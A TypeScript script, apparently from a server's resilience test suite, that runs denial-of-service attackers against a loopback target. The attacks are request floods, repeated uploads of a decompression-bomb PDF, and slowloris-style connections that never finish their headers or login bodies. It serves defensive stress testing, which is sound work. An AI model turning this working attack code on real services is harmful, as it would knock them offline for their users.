/** One attacker in a process of its own, at its own loopback address, until it is ended: `attack.ts KIND TARGET`. Prints what it sent. */
import { Agent, request } from 'node:http'
import { connect, type Socket } from 'node:net'
import { bombPdf, uploadOf } from '../company/companies.ts'

/** What an attacker is given. */
export interface AttackTarget {
  readonly port: number
  /** Loopback address that the attacker comes from. */
  readonly from: string
  /** Paths that `flood` asks for in turn. */
  readonly paths?: readonly string[]
  readonly headers?: Readonly<Record<string, string>>
  readonly connections: number
}

/** `flood` asks as fast as it is answered, `bombs` uploads PDFs that unfold, `slow` sends a byte of a request a second. */
export type AttackKind = 'flood' | 'bombs' | 'slow'

const [kind, given = ''] = process.argv.slice(2)
const target = JSON.parse(given) as AttackTarget
const agent = new Agent({ keepAlive: true, maxSockets: target.connections, localAddress: target.from })
const counts: Record<string, number> = {}
const count = (what: string | number) => {
  counts[what] = (counts[what] ?? 0) + 1
}
process.on('SIGTERM', () => {
  process.stdout.write(JSON.stringify(counts))
  process.exit(0)
})

for (let connection = 0; connection < target.connections; connection++) {
  if (kind === 'slow') trickle()
  else void repeat(kind === 'bombs' ? bomb() : ask)
}

async function repeat(once: (turn: number) => Promise<number | string>): Promise<void> {
  for (let turn = 0; ; turn++) count(await once(turn))
}

/** One request; its status, or what broke it. */
function send(path: string, { method = 'GET', headers = {}, body }: { method?: string; headers?: object; body?: Buffer }) {
  return new Promise<number | string>((settle) => {
    const sent = request(
      { agent, port: target.port, host: '127.0.0.1', path, method, headers: { ...target.headers, ...headers } },
      (answer) => answer.resume().once('end', () => settle(answer.statusCode ?? 0)),
    )
    sent.once('error', (error: NodeJS.ErrnoException) => setTimeout(() => settle(error.code ?? 'error'), 10)).end(body)
  })
}

function ask(turn: number): Promise<number | string> {
  const { paths = ['/'] } = target
  return send(paths[turn % paths.length] ?? '/', {})
}

function bomb(): () => Promise<number | string> {
  const bytes = bombPdf()
  const form = new FormData()
  for (const [name, value] of Object.entries(uploadOf(bytes, 'bomb.pdf', 'pdf'))) form.set(name, value as string | Blob)
  const encoded = new Response(form)
  const type = encoded.headers.get('content-type') ?? ''
  const body = encoded.arrayBuffer().then((buffer) => Buffer.from(buffer))
  return async () =>
    send('/thirdparty/file/storage/uploadWithMultipartFile', { method: 'POST', headers: { 'content-type': type }, body: await body })
}

/** Half of the connections never end their headers, the other half the body of a form. */
function trickle(): void {
  const socket: Socket = connect({ port: target.port, host: '127.0.0.1', localAddress: target.from })
  const form = Math.random() < 0.5
  socket.write(
    form
      ? 'POST /api/login HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\ncontent-length: 900000\r\n\r\n'
      : 'GET / HTTP/1.1\r\nhost: localhost\r\n',
  )
  const timer = setInterval(() => socket.write(form ? ' ' : 'x-a: b\r\n'), 1000)
  const again = () => {
    clearInterval(timer)
    count('closed')
    setTimeout(trickle, 1000)
  }
  socket.once('error', () => socket.destroy()).once('close', again)
  socket.resume()
}
